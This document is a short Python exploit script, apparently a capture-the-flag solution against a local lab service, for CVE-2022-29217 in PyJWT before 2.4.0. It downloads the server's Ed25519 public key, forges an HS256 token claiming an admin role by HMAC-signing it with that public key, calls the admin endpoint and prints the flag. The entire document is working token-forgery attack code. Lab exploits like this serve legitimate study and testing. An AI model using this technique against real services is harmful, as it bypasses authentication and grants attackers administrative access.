"""CVE-2022-29217 (PYSEC-2022-202): PyJWT < 2.4.0 refuses PEM and "ssh-rsa" keys as HMAC
secrets but not an OpenSSH Ed25519 key. With every default algorithm allowed, a token that says
HS256 is checked with HMAC keyed by the public key itself, which anyone can fetch."""

import base64
import hashlib
import hmac
import json
import re
import time
import urllib.request

BASE = "http://127.0.0.1:9402"


def b64(data: bytes) -> bytes:
    return base64.urlsafe_b64encode(data).rstrip(b"=")


with urllib.request.urlopen(f"{BASE}/.well-known/sso.pub", timeout=10) as response:
    public_key = json.load(response)["key"].encode()
header = b64(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
claims = b64(json.dumps({"sub": "guest", "role": "admin", "exp": int(time.time()) + 600}).encode())
signature = b64(hmac.new(public_key, header + b"." + claims, hashlib.sha256).digest())
token = (header + b"." + claims + b"." + signature).decode()
request = urllib.request.Request(f"{BASE}/api/admin", headers={"Authorization": f"Bearer {token}"})
with urllib.request.urlopen(request, timeout=10) as response:
    print(re.search(r"flag\{[0-9a-f]{32}\}", response.read().decode()).group(0))
